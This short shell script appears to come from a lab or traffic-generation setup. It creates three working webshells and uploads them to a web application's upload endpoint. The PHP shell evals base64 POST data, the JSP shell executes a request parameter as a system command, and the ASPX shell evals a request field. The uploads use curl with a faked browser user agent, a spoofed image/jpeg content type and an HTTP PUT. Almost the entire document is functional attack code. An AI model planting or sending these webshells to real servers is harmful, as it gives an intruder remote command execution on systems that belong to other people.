# Webshells sent to a site: PHP and JSP in a form, ASPX in a form, and a PHP file by PUT.
# packages: curl nginx-light python3
printf '<?php if(isset($_POST["a"])){ @eval(base64_decode($_POST["a"])); } ?>' >"$LAB_DIR/anh.php"
printf '<%%@ page import="java.io.*" %%><%% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %%>' >"$LAB_DIR/x.jsp"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["pass"],"unsafe");%%>' >"$LAB_DIR/x.aspx"
web=(curl -s -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0')
from attacker "${web[@]}" -F "tep=@$LAB_DIR/anh.php;type=image/jpeg" http://$SERVER/app/tai-len
from attacker "${web[@]}" -F "tep=@$LAB_DIR/x.jsp" http://$SERVER/app/tai-len
from attacker "${web[@]}" -F "tep=@$LAB_DIR/x.aspx" http://$SERVER/app/tai-len
from attacker "${web[@]}" -T "$LAB_DIR/anh.php" http://$SERVER/app/anh.php
